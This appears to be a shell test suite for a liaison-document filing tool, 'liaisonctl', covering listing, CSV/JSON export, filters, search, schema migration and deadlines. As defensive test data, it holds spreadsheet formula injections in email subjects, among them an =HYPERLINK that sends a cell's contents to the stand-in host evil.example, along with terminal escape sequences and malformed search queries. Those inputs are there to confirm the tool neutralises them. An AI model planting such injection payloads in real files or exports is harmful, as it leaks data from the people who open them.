#!/bin/bash
# test_ctl_docs.sh: liaisonctl's document side on the corpus: init, list as a table, CSV (hostile cells) and
# SPDX-License-Identifier: Apache-2.0
# JSON with its filters, show as text, search (hostile queries, a store indexed by its migration), deadlines.
. "$(dirname "$0")/lib.sh"
T=$(mktemp -d)
trap 'rm -rf "$T"' EXIT
make_maildir "$T/Maildir"
# Subjects a spreadsheet would run (the parser trims the spaces before '+': the unit test has them),
# and one that would drive a terminal (ESC, RFC 2047 encoded).
i=0
for subj in '=HYPERLINK("http://evil.example/?"&A1,"click")' '  +SUM(1,2)' '@cmd' '-2+3' \
	'=?utf-8?q?=1B=5B2J=1B=5B31mred?='; do
	i=$((i + 1))
	printf 'From: Mallory <m@evil.example>\nTo: tsbjcamv@itu.int\nSubject: %s\nDate: Tue, 03 Mar 2026 10:00:00 +0000\nMessage-ID: <hostile%d@evil.example>\n\nhello\n' \
		"$subj" "$i" >"$T/Maildir/new/9$i.hostile"
done
write_conf "$T/conf" "$T/db/sub/liaisond.db" "$T/Maildir" "$T/spool"
CTL=("$LIAISONCTL" -c "$T/conf")

# init: a new store with the daemon's modes; never twice; no other command creates one.
"${CTL[@]}" list >/dev/null 2>&1
check_eq "list without a store exits 1" "$?" 1
"${CTL[@]}" search x >/dev/null 2>&1
check_eq "search without a store exits 1" "$?" 1
check "and neither created it" test ! -e "$T/db/sub/liaisond.db"
"${CTL[@]}" init >"$T/init.out" 2>&1
check_eq "init exits 0" "$?" 0
check_eq "the store's mode" "$(stat -c %a "$T/db/sub/liaisond.db")" 640
check_eq "its folder's mode" "$(stat -c %a "$T/db/sub")" 750
"$LIAISOND" --once -c "$T/conf" 2>"$T/log"
check_eq "liaisond files into it" "$?" 0
sum=$(sha256sum <"$T/db/sub/liaisond.db")
"${CTL[@]}" init >"$T/init2.out" 2>&1
check_eq "init over an existing store exits 1" "$?" 1
check "and says why" grep -q "is already there" "$T/init2.out"
check_eq "and leaves it alone" "$(sha256sum <"$T/db/sub/liaisond.db")" "$sum"

# list: a table with a header, the columns aligned on the widest value.
"${CTL[@]}" list >"$T/list.txt"
check_eq "list: the header and 17 rows" "$(wc -l <"$T/list.txt")" 18
check "the header names the columns" grep -qE '^ID +DATE +KIND +DIRECTION +SOURCE +REF +DOCNO +SUBJECT$' "$T/list.txt"
python3 - "$T/list.txt" <<'PY'
import sys
rows = open(sys.argv[1], encoding="utf-8").read().splitlines()
col = rows[0].index("SUBJECT")
ok = all(len(r) > col and r[col - 2:col] == "  " and r[col] != " " for r in rows[1:])
sys.exit(0 if ok else print("\n".join(rows)) or 1)
PY
check_eq "every subject starts under SUBJECT" "$?" 0
check "no escape sequence reaches the terminal" bash -c "! grep -q $'\x1b' '$T/list.txt'"
"${CTL[@]}" list --json >"$T/list.jsonl"
"${CTL[@]}" list --format json >"$T/list2.jsonl"
check "--format json is --json" cmp -s "$T/list.jsonl" "$T/list2.jsonl"
check_eq "list --json: one object per document" "$(grep -c '^{"id": [0-9]*, "message_id": ' "$T/list.jsonl")" 17

# CSV: RFC 4180 with a header; every formula neutralised, the values otherwise intact.
"${CTL[@]}" list --format csv >"$T/list.csv"
python3 - "$T/list.csv" <<'PY'
import csv, sys
raw = open(sys.argv[1], "rb").read()
assert raw.count(b"\r\n") >= 18 and b"\n" not in raw.replace(b"\r\n", b""), "CRLF line ends"
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
assert rows[0] == "id,message_id,date,received,kind,direction,from,source,ref,docno,subject".split(","), rows[0]
assert len(rows) == 18 and all(len(r) == 11 for r in rows), len(rows)
for r in rows[1:]:
    for cell in r:
        s = cell.lstrip(" ")
        assert not s or s[0] not in "=+-@\t\r", ("formula", cell)
subjects = {r[1]: r[10] for r in rows[1:]}
want = {"<hostile1@evil.example>": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "<hostile2@evil.example>": "'+SUM(1,2)", "<hostile3@evil.example>": "'@cmd",
        "<hostile4@evil.example>": "'-2+3"}
for k, v in want.items():
    assert subjects[k] == v, (k, subjects[k], v)
PY
check_eq "list --format csv: RFC 4180, a header, hostile cells neutralised" "$?" 0

# Filters: a body through its aliases, kind, direction, the message's Date (not the filing time).
count() { "${CTL[@]}" list --json "$@" | wc -l; }
check_eq "--sdo SG21 (an alias): sent by it or addressed to it" "$(count --sdo SG21)" 5
check_eq "--sdo 'ITU-T SG21' gives the same" "$(count --sdo 'ITU-T SG21')" 5
check_eq "--kind liaison --direction incoming" "$(count --kind liaison --direction incoming)" 5
check_eq "--direction outgoing" "$(count --direction outgoing)" 1
check_eq "--since 2026-03-01 (the Date: header)" "$(count --since 2026-03-01)" 6
check_eq "--until 2025-11-07 includes that day" "$(count --until 2025-11-07)" 7
check_eq "--since and --until together" "$(count --since 2025-11-07 --until 2025-11-07)" 3
"${CTL[@]}" list --direction sideways 2>/dev/null
check_eq "--direction sideways exits 2" "$?" 2
"${CTL[@]}" list --format xml 2>/dev/null
check_eq "--format xml exits 2" "$?" 2

# show: every field as text, no JSON.
"${CTL[@]}" show FG-MV-LS1 >"$T/show.txt"
check "show: the message's date" grep -qx 'Date:       2023-03-10T09:00:00Z' "$T/show.txt"
check "show: the abstract" grep -q '^    A new ITU-T Focus Group on metaverse' "$T/show.txt"
sha=$("${CTL[@]}" show --json FG-MV-LS1 | grep -o '"sha256": "[0-9a-f]*"' | cut -d'"' -f4)
check "show: the attachment with its type, size and sha256" \
	grep -qE "^  FG-MV-LS1\.docx +application/vnd\.openxmlformats-officedocument\.wordprocessingml\.document +[0-9]+  $sha\$" "$T/show.txt"
check "show: no raw JSON" bash -c "! grep -q '[{}]' '$T/show.txt'"
id9=$(python3 -c 'import json, sys; print([o["id"] for o in map(json.loads, open(sys.argv[1])) if any(w.startswith("mime:") for w in o["warnings"])][0])' "$T/list.jsonl")
"${CTL[@]}" show "$id9" >"$T/show9.txt"
check "show: the warnings one a line" grep -qx '  mime: the message ends before the closing boundary of its multipart' "$T/show9.txt"

# search: every word, best first, as a table or JSON; nothing the user types is query syntax.
"${CTL[@]}" search metaverse identity >"$T/search.txt"
check "search: a table with a header" grep -qE '^ID +DATE +KIND +REF +SUBJECT +SNIPPET$' "$T/search.txt"
check "search: finds SG21-LS82" grep -q 'SG21-LS82' "$T/search.txt"
check_eq "search --json" "$("${CTL[@]}" search --json conjunction | grep -c '"snippet": ".*\[conjunction\]')" 1
check_eq "search: a word only in a body" "$("${CTL[@]}" search --json out of the office | wc -l)" 1
# "Blockchain" is written only inside p11's PDF (its title, abstract and subject say DLT): attachment text is indexed.
check_eq "search: a word only in a PDF attachment" \
	"$("${CTL[@]}" search --json Blockchain | grep -c '"ref": "ISO/TC 307 N 1234"')" 1
for q in '"' '"unbalanced' 'NEAR(a b)' 'metaverse AND' 'OR' '*' 'meta*' '(metaverse' 'metaverse)' \
	'subject:metaverse' '^x' "'" '{title}:x' '-x' 'NOT'; do
	"${CTL[@]}" search -- "$q" >/dev/null 2>"$T/err" # "--": '-x' is a word, not an option
	rc=$?
	[ "$rc" -eq 0 ] && [ ! -s "$T/err" ] || fail "search '$q': exit $rc, $(cat "$T/err")"
done
ok "15 hostile queries exit 0, silently"
check_eq "the quotes are not syntax" "$("${CTL[@]}" search --json '"metaverse"' | wc -l)" \
	"$("${CTL[@]}" search --json metaverse | wc -l)"
check_eq "OR is a word, not an operator" "$("${CTL[@]}" search --json metaverse OR zzzznoword | wc -l)" 0
"${CTL[@]}" search '' 2>/dev/null
check_eq "search with nothing to find exits 2" "$?" 2

# A store from before the index (schema 1): the first program to open it indexes what is filed.
cp "$T/db/sub/liaisond.db" "$T/old.db"
newest=$(sqlite3 "$T/db/sub/liaisond.db" 'PRAGMA user_version') # this program made that store
sqlite3 "$T/old.db" "ALTER TABLE document ADD COLUMN raw BLOB;
	UPDATE document SET raw = (SELECT raw FROM document_raw WHERE document_id = document.id);
	DROP TABLE document_raw; DROP INDEX sdo_contact_email;
	DROP TABLE document_fts; DROP VIEW document_search; DROP TABLE document_text;
	DROP INDEX outbox_kind_created; ALTER TABLE outbox DROP COLUMN cancelled; DROP TABLE daemon_state;
	DROP TABLE reminder; DROP TABLE digest_mark; DROP TABLE delivery; DROP TABLE smtp_server;
	DROP INDEX document_docno; ALTER TABLE document DROP COLUMN docno; ALTER TABLE document DROP COLUMN refs;
	DROP TABLE docno_counter; DROP INDEX liaison_ref_key; ALTER TABLE liaison DROP COLUMN ref_key;
	DROP INDEX obligation_sdo; DROP INDEX obligation_liaison;
	DROP TABLE doc_body; DROP TABLE answer;
	PRAGMA user_version = 1"
write_conf "$T/old.conf" "$T/old.db" "$T/Maildir" "$T/spool"
check_eq "an old store: search migrates and finds a body's word" \
	"$("$LIAISONCTL" -c "$T/old.conf" search --json conjunction | wc -l)" 1
check_eq "its schema is now the newest ($newest)" "$(sqlite3 "$T/old.db" 'PRAGMA user_version')" "$newest"
check_eq "its raw messages moved out of the document row" \
	"$(sqlite3 "$T/old.db" 'SELECT count(*) FROM document_raw')" "$(sqlite3 "$T/old.db" 'SELECT count(*) FROM document')"
check_eq "its incoming statements and roadmap inputs are numbered in filing order" \
	"$(sqlite3 "$T/old.db" "SELECT group_concat(docno, ' ') FROM (SELECT docno FROM document WHERE docno IS NOT NULL ORDER BY id LIMIT 2)")" \
	"JCA-MV-Doc-001 JCA-MV-Doc-002"

# deadlines: a table too.
"${CTL[@]}" deadlines --now 2026-02-01 >"$T/dl.txt"
check "deadlines: a table with a header" grep -qE '^DEADLINE +STATE +REF +ROLE +SDO +ANSWERED BY +TITLE$' "$T/dl.txt"
check_eq "deadlines: as many rows as --json objects" "$(($(wc -l <"$T/dl.txt") - 1))" \
	"$("${CTL[@]}" deadlines --now 2026-02-01 --json | wc -l)"
finish
